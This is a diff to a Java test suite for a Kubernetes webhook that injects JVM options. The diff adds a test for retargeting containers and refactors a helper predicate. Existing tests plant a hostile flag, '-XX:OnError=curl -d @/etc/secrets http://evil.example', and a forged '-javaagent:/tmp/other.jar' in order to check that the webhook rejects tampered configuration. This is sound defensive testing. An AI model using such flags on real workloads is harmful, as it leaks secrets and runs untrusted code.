@@ -153,6 +153,27 @@ class WebhookDoNoHarmTest {
     }
 
     @Test
+    void theRecordedTargetFollowsTheWorkloadsAnnotationEvenWhenTheAllocationStaysTheSame(TestInfo test) {
+        harm = new DoNoHarm(client);
+        client.resource(deployment(NS, "retarget", "orders", 0, List.of())).create();
+        await().atMost(WAIT).until(() -> "streams".equals(annotation(configMap(client, NS, "retarget"),
+                WorkloadAnnotations.TARGET_CONTAINER)));
+        String allocationHash = annotation(configMap(client, NS, "retarget"), WorkloadAnnotations.ALLOCATION_HASH);
+        // The user moves the agent to the other container (same memory: the same allocation).
+        client.apps().deployments().inNamespace(NS).withName("retarget").edit(d -> {
+            d.getMetadata().getAnnotations().put(WorkloadAnnotations.CONTAINER, "proxy");
+            return d;
+        });
+        await().atMost(WAIT).until(() -> "proxy".equals(annotation(configMap(client, NS, "retarget"),
+                WorkloadAnnotations.TARGET_CONTAINER)));
+        assertThat(annotation(configMap(client, NS, "retarget"), WorkloadAnnotations.ALLOCATION_HASH)).isEqualTo(allocationHash);
+        Pod pod = admittedOnceSeen("retarget", p -> "proxy".equals(annotation(p, WorkloadAnnotations.INJECTED_CONTAINER)));
+
+        assertThat(annotation(pod, WorkloadAnnotations.INJECTED_CONTAINER)).isEqualTo("proxy");
+        harm.write(5, getClass(), test.getTestMethod().orElseThrow().getName());
+    }
+
+    @Test
     void aContainerAnnotationNamingNoContainerInjectsNothingAndSaysWhy(TestInfo test) {
         harm = new DoNoHarm(client);
         Pod pod = admitted(harm.admit(pod(NS, "typo", UnaryOperator.identity())));
@@ -230,7 +251,7 @@ class WebhookDoNoHarmTest {
         // kubectl edit: a flag added to the published document, by a field manager that is not the operator.
         client.configMaps().inNamespace(NS).withName(configMapName("edited")).edit(cm -> withJvmOptions(cm,
                 flags -> flags.add("-XX:OnError=curl -d @/etc/secrets http://evil.example")));
-        Pod pod = admittedOnceSeen("edited", p -> p.contains("OnError"));
+        Pod pod = admittedOnceSeen("edited", p -> p.toString().contains("OnError"));
 
         assertThat(pod.getSpec().getContainers()).allSatisfy(c -> assertThat(javaToolOptions(c)).doesNotContain("OnError"));
         assertSkipped(pod, "ConfigMap edited-streams-memory was not used");
@@ -251,7 +272,7 @@ class WebhookDoNoHarmTest {
         forged.getMetadata().setUid(null);
         forged.getMetadata().setCreationTimestamp(null);
         client.resource(forged).fieldManager(WorkloadAnnotations.FIELD_MANAGER).forceConflicts().serverSideApply();
-        Pod pod = admittedOnceSeen("forged", p -> p.contains("/tmp/other.jar"));
+        Pod pod = admittedOnceSeen("forged", p -> p.toString().contains("/tmp/other.jar"));
 
         assertThat(pod.getSpec().getContainers()).allSatisfy(c -> assertThat(javaToolOptions(c)).doesNotContain("other.jar"));
         assertSkipped(pod, "\"-javaagent:/tmp/other.jar\" is not a flag the operator sets");
@@ -264,10 +285,10 @@ class WebhookDoNoHarmTest {
      * Admits a pod of the workload once the webhook has seen the edited ConfigMap: dry runs (which go through
      * the webhook too) until the pod is either skipped or shows the edit.
      */
-    private Pod admittedOnceSeen(String workload, Predicate<String> showsEdit) {
+    private Pod admittedOnceSeen(String workload, Predicate<Pod> showsEdit) {
         await().atMost(WAIT).until(() -> {
             Pod probe = client.resource(pod(NS, workload, UnaryOperator.identity())).dryRun().create();
-            return annotation(probe, WorkloadAnnotations.INJECTION_SKIPPED) != null || showsEdit.test(probe.toString());
+            return annotation(probe, WorkloadAnnotations.INJECTION_SKIPPED) != null || showsEdit.test(probe);
         });
         return admitted(harm.admit(pod(NS, workload, UnaryOperator.identity())));
     }
